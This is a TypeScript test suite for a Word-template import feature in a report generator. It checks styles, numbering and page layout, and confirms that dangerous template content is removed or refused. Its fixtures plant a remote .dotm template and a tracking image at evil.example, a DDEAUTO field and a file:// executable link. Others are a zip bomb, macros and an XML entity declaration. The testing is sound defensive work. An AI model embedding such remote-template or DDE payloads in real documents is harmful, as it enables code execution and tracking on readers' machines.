import assert from 'node:assert/strict';
import { test } from 'node:test';
import { unzipSync, zipSync } from 'fflate';
import { SAMPLE_PACK, SAMPLE_SCORECARD } from '../sample.fixture.ts';
import { whyNoTemplate, wordOf } from './word.ts';
import { assertWhole, COUNCIL, councilTemplate, found, partsOf, relation, wordsOf } from './word-parts.fixture.ts';

const codes = (issues: { code: string }[]) => issues.map(({ code }) => code);
const made = async (changed: Record<string, string | null> = {}, of = SAMPLE_PACK) => {
  const { bytes, issues } = await wordOf(of, { template: councilTemplate(changed) });
  const parts = partsOf(bytes);
  assertWhole(parts, Object.keys(unzipSync(bytes)));
  return { parts, issues, xml: parts['word/document.xml']! };
};
const changedIn = (path: string, from: string, to: string) => {
  const changed = COUNCIL[path]!.replace(from, to);
  assert.notEqual(changed, COUNCIL[path]);
  return { [path]: changed };
};

test('a template keeps its page, head, foot and words, and the document stands where it is marked', async () => {
  const { parts, xml, issues } = await made();
  assert.equal(parts['word/header1.xml'], COUNCIL['word/header1.xml']);
  assert.equal(parts['word/footer1.xml'], COUNCIL['word/footer1.xml']);
  const section = found(COUNCIL['word/document.xml']!, /<w:sectPr>.*<\/w:sectPr>/g)[0]!;
  assert.ok(xml.includes(section.replace(/<w:headerReference.*?<w:pgSz/, '<w:pgSz').slice('<w:sectPr>'.length)));
  const said = wordsOf(xml);
  assert.equal(said[0], 'Report of the director');
  assert.equal(said.at(-1), 'Contact: committee services');
  assert.equal(said.includes('{{document}}'), false);
  assert.equal(said[1], 'SEND Improvement Board, Thursday 10 July 2025. Item 5, for decision');
  assert.equal(said.at(-2), SAMPLE_PACK.foot);
  assert.match(
    parts['[Content_Types].xml']!,
    /"\/word\/document.xml" ContentType="[^"]*wordprocessingml.document.main\+xml"/,
  );
  assert.deepEqual(codes(issues), ['word-template-styles-added']);
});

test('our paragraphs have the styles of the template that bear their names, under ids of its own', async () => {
  const { parts, xml, issues } = await made();
  const styleOf = (words: string) =>
    found(xml, /<w:p[ >].*?<\/w:p>/gs)
      .filter((one) => wordsOf(one)[0] === words && !one.includes('PAGEREF'))
      .map((one) => /<w:pStyle w:val="([^"]*)"/.exec(one)?.[1])[0];
  assert.equal(styleOf(SAMPLE_PACK.title), 'berschrift1');
  assert.equal(styleOf('Then and now'), 'berschrift2');
  assert.equal(styleOf('Two co-ordinators were moved from reviews.'), 'Aufzhlung');
  assert.deepEqual([...new Set(found(xml, /<w:tblStyle w:val="([^"]*)"/g))], ['Tabellenraster']);
  const third = styleOf('What was done')!;
  assert.match(parts['word/styles.xml']!, new RegExp(`w:styleId="${third}"[^>]*><w:name w:val="heading 3"/>`));
  assert.notEqual(third, 'Heading3');
  assert.deepEqual(
    issues.map(({ facts }) => facts),
    [{ styles: ['Heading 3'] }],
  );
  const ids = found(parts['word/styles.xml']!, /w:styleId="([^"]*)"/g);
  assert.equal(new Set(ids).size, ids.length);
  for (const used of found(xml, /<w:(?:pStyle|rStyle|tblStyle) w:val="([^"]*)"/g)) assert.ok(ids.includes(used), used);
  for (const used of found(parts['word/styles.xml']!, /<w:(?:basedOn|next|link) w:val="([^"]*)"/g))
    assert.ok(ids.includes(used), used);
  assert.match(parts['word/styles.xml']!, /<w:lang w:val="en-GB"/);
});

test('numbers of lists, drawings and bookmarks are none that the template has', async () => {
  const { parts, xml } = await made();
  const numbers = found(parts['word/numbering.xml']!, /<w:num w:numId="(\d+)"/g);
  assert.equal(new Set(numbers).size, numbers.length);
  for (const used of found(xml, /<w:numId w:val="(\d+)"/g)) assert.ok(numbers.includes(used) && used !== '5');
  const kinds = parts['word/numbering.xml']!;
  assert.ok(kinds.lastIndexOf('</w:abstractNum>') < kinds.indexOf('<w:num '));
  const drawings = found(xml + parts['word/header1.xml'], /<wp:docPr id="(\d+)"/g);
  assert.equal(new Set(drawings).size, drawings.length);
});

test('bullets come with a style of the template that has none', async () => {
  const { xml } = await made(
    changedIn('word/styles.xml', '<w:pPr><w:numPr><w:numId w:val="5"/></w:numPr></w:pPr>', ''),
  );
  const item = found(xml, /<w:p[ >].*?<\/w:p>/gs).find((one) => one.includes('Two co-ordinators'))!;
  assert.match(item, /<w:pStyle w:val="Aufzhlung"\/><w:numPr><w:ilvl w:val="0"\/><w:numId w:val="\d+"\/><\/w:numPr>/);
});

test('without a mark the document takes the place of what stands on the pages, and says so', async () => {
  const { xml, issues } = await made(changedIn('word/document.xml', '{{doc', '{{'));
  assert.equal(wordsOf(xml).includes('Report of the director'), false);
  assert.deepEqual(codes(issues), ['word-template-styles-added', 'word-template-words-left']);
  assert.match(issues[1]!.message, /“Report of the director/);
});

test('a template without styles, without a page or without heads gets ours', async () => {
  const bare = await made({
    'word/styles.xml': null,
    'word/numbering.xml': null,
    'word/document.xml': COUNCIL['word/document.xml']!.replace(/<w:sectPr>.*<\/w:sectPr>/, ''),
  });
  assert.deepEqual(codes(bare.issues), ['word-template-no-styles', 'word-template-no-page']);
  assert.match(bare.parts['word/styles.xml']!, /w:styleId="Heading1"/);
  assert.match(bare.xml, /<w:pgSz w:w="11906" w:h="16838"/);
  const heads = Object.keys(bare.parts).filter((path) => /^word\/waymark-(?:header|footer)\.xml$/.test(path));
  assert.equal(heads.length, 2);
  assert.match(wordsOf(bare.parts['word/waymark-footer.xml']!).join(' '), /Version 7, signed off.*Page .* of/);
  const empty = await made({
    'word/styles.xml': COUNCIL['word/styles.xml']!.replace(/(<w:styles[^>]*>).*(<\/w:styles>)/, '$1$2'),
  });
  assert.deepEqual(codes(empty.issues), ['word-template-no-styles']);
});

test('a narrow page for wide tables is told of', async () => {
  const { issues } = await made({}, SAMPLE_SCORECARD);
  assert.ok(codes(issues).includes('word-template-narrow'));
});

test('what a template fetches or runs is taken out and told of', async () => {
  const field = (instruction: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>last seen</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const { parts, issues } = await made({
    ...changedIn(
      'word/settings.xml',
      '<w:evenAndOdd',
      '<w:attachedTemplate r:id="rId1"/><w:updateFields w:val="1"/><w:linkStyles/><w:evenAndOdd',
    ),
    'word/_rels/settings.xml.rels': COUNCIL['_rels/.rels']!.replace(
      /<Relationship .*\/>/,
      relation('rId1', 'attachedTemplate', 'http://evil.example/x.dotm', ' TargetMode="External"'),
    ),
    ...changedIn(
      'word/footer1.xml',
      '</w:ftr>',
      `${field('DDEAUTO c:\\x')}${field(' PAGE ')}${field('INCLUDEPICTURE "http://evil.example/a.png"')}${field('HYPERLINK "file://x/y"')}${field('HYPERLINK "https://council.example"')}<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;c:\\y&quot;"><w:r><w:t>kept words</w:t></w:r></w:fldSimple><w:hyperlink r:id="rId1"><w:r><w:t>unlinked</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId2"><w:r><w:t>linked</w:t></w:r></w:hyperlink></w:p></w:ftr>`,
    ),
    'word/_rels/footer1.xml.rels': COUNCIL['_rels/.rels']!.replace(
      /<Relationship .*\/>/,
      relation('rId1', 'hyperlink', 'file:///c:/x.exe', ' TargetMode="External"') +
        relation('rId2', 'hyperlink', 'https://council.example/', ' TargetMode="External"'),
    ),
    ...changedIn(
      'word/header1.xml',
      '</w:hdr>',
      '<w:p><w:r><w:object><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId9"/></w:object></w:r><w:r><w:t>after</w:t></w:r></w:p></w:hdr>',
    ),
    'word/_rels/header1.xml.rels': COUNCIL['_rels/.rels']!.replace(
      /<Relationship .*\/>/,
      relation('rId9', 'image', 'http://evil.example/pixel.png', ' TargetMode="External"'),
    ),
  });
  const all = Object.values(parts).join('');
  assert.doesNotMatch(all, /evil|DDE|INCLUDE|file:|attachedTemplate|updateFields|linkStyles|<w:object/);
  const foot = wordsOf(parts['word/footer1.xml']!);
  assert.deepEqual(foot.slice(-6), [
    'last seen',
    'last seen',
    'last seen',
    'last seen',
    'last seen',
    'kept wordsunlinkedlinked',
  ]);
  assert.deepEqual(found(parts['word/footer1.xml']!, /<w:instrText>([^<]*)</g), [
    ' PAGE ',
    'HYPERLINK "https://council.example"',
  ]);
  assert.deepEqual(
    issues.slice(0, 2).map(({ code, facts }) => [code, facts]),
    [
      [
        'word-template-linked',
        { kinds: ['a link that would open a file', 'a picture from elsewhere', 'another template'] },
      ],
      ['word-template-fields', { fields: ['DDEAUTO', 'HYPERLINK', 'INCLUDEPICTURE', 'INCLUDETEXT'] }],
    ],
  );
});

test('a file that is no template is refused with its reason, and the document is made in the plain look', async () => {
  const type = (to: string) => changedIn('[Content_Types].xml', 'wordprocessingml.template.main', to);
  const bytesOf = (changed: Record<string, string | null>) => councilTemplate(changed).bytes;
  const whole = bytesOf({});
  const bomb = zipSync({ ...unzipSync(whole), 'word/media/a.bin': new Uint8Array(120_000_000) }, { level: 9 });
  const deep = `<w:document xmlns:w="x">${'<w:p>'.repeat(5000)}${'</w:p>'.repeat(5000)}</w:document>`;
  const refused: [string, Uint8Array, string][] = [
    ['empty', new Uint8Array(), 'word-template-empty'],
    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47]), 'word-template-not-word'],
    ['an old file', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]), 'word-template-old'],
    ['cut off', whole.slice(0, whole.length - 200), 'word-template-not-word'],
    ['too long', new Uint8Array(20_000_001), 'word-template-size'],
    ['a bomb', bomb, 'word-template-inflated'],
    ['macros', bytesOf(type('ms-word.template.macroEnabledTemplate.main')), 'word-template-macros'],
    ['hidden macros', bytesOf({ 'word/vbaProject.bin': 'x' }), 'word-template-macros'],
    ['a workbook', bytesOf(type('spreadsheetml.sheet.main')), 'word-template-not-word'],
    [
      'an entity',
      bytesOf({ 'word/settings.xml': `<!DOCTYPE x [<!ENTITY a "b">]>${COUNCIL['word/settings.xml']}` }),
      'word-template-doctype',
    ],
    ['an unclosed part', bytesOf({ 'word/styles.xml': '<w:styles xmlns:w="x">' }), 'word-template-damaged'],
    ['an endless character', bytesOf({ 'word/styles.xml': '<a>&#x999999;</a>' }), 'word-template-damaged'],
    ['a deep part', bytesOf({ 'word/document.xml': deep }), 'word-template-damaged'],
    [
      'a strict file',
      bytesOf(
        changedIn(
          '_rels/.rels',
          'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument',
          'http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument',
        ),
      ),
      'word-template-strict',
    ],
    ['no relations', bytesOf({ '_rels/.rels': null }), 'word-template-not-word'],
  ];
  const small = { ...SAMPLE_PACK, blocks: [] };
  const plain = await wordOf(small);
  for (const [what, bytes, code] of refused) {
    const file = { name: 'file.dotx', bytes };
    const { bytes: written, issues } = await wordOf(small, { template: file });
    assert.deepEqual([what, ...issues.map((issue) => [issue.code, issue.severity])], [what, [code, 'stops']]);
    assert.ok(Buffer.from(written).equals(Buffer.from(plain.bytes)), what);
    assert.deepEqual(whyNoTemplate(file), issues[0]);
    assert.doesNotMatch(issues[0]!.message, /undefined|NaN/);
  }
  assert.equal(whyNoTemplate(councilTemplate()), null);
});

test('a part that means something else by a prefix that Word uses is not added to', async () => {
  const template = councilTemplate(changedIn('word/document.xml', '<w:document ', '<w:document xmlns:wp="urn:other" '));
  const { bytes, issues } = await wordOf(SAMPLE_PACK, { template });
  assert.deepEqual(codes(issues), ['word-template-damaged']);
  assert.ok(Buffer.from(bytes).equals(Buffer.from((await wordOf(SAMPLE_PACK)).bytes)));
});
